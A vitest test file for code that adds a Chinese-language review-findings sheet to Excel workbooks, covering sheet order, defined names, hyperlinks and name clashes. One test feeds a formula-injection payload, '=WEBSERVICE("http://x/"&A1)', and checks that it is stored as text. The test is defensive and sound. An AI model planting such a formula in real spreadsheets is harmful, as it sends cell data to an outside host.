import { beforeAll, describe, expect, it } from 'vitest';
import { readCells } from '../src/cells/read-cells.js';
import { finding, findings, given, textOf } from './marked.js';
import { rich } from './rich.js';
import { tamper } from './zip.js';

let returned: Uint8Array;
beforeAll(async () => {
  returned = await given(rich, findings);
});

describe('the workbook with its new first sheet', () => {
  it('opens on it, alone selected, and names follow their sheets', async () => {
    const workbook = await textOf(returned, 'xl/workbook.xml');
    expect(workbook).toContain(
      '<sheets><sheet name="审核意见" sheetId="8" r:id="rId7"/><sheet name="统计表" sheetId="3"',
    );
    expect(workbook).toContain('firstSheet="0" activeTab="0"');
    expect(workbook).toContain('<definedName name="_xlnm.Print_Area" localSheetId="1">统计表!$A$1:$C$12');
    expect(workbook).toContain('<definedName name="_xlnm.Print_Titles" localSheetId="2">附表!$1:$1');
    expect(workbook).toContain('<definedName name="基数">统计表!$B$2');
    expect(await textOf(returned, 'xl/worksheets/sheet2.xml')).not.toContain('tabSelected');
  });
  it('holds what findings quote as texts, never as formulas', async () => {
    const nasty = '=WEBSERVICE("http://x/"&A1)';
    const book = await readCells(
      await given(rich, [finding('B2', { found: nasty, message: '+1\u0001<&>_x0041_\r\n"', label: '@x' })]),
      'x.xlsx',
    );
    const list = book.sheets[0]?.cells;
    expect([...(list?.values() ?? [])].every(({ formula }) => formula === null)).toBe(true);
    expect(['D6', 'E6', 'G6'].map((address) => list?.get(address)?.content)).toEqual([
      { kind: 'text', text: '@x' },
      { kind: 'text', text: nasty },
      { kind: 'text', text: '+1\u0001<&>_x0041_\r\n"' },
    ]);
  });
  it('links each finding to its cell, by a link inside the workbook', async () => {
    const strange = await tamper(rich, {
      part: /workbook\.xml$/,
      change: (xml) => xml.replaceAll('name="统计表"', 'name="统计\'表 &amp; 1"'),
    });
    const list = await textOf(
      await given(strange, [
        finding('B2', { place: { sheet: "统计'表 & 1", cell: 'B2' } }),
        finding('B3', { place: { sheet: '没有这页', cell: 'B3' } }),
      ]),
      'xl/worksheets/sheet3.xml',
    );
    expect(list.match(/<hyperlink /g)).toHaveLength(1);
    expect(list).toContain('<hyperlink ref="C6" location="\'统计\'\'表 &amp; 1\'!B2"');
  });
  it('leaves a sheet of that name that is the clerk’s own', async () => {
    const own = await tamper(rich, {
      part: /workbook\.xml$/,
      change: (xml) => xml.replace('name="附表"', 'name="审核意见"'),
    });
    const names = (await readCells(await given(own, findings), 'x.xlsx')).sheets.map(({ name }) => name);
    expect(names).toEqual(['审核意见 (2)', '统计表', '审核意见']);
  });
});
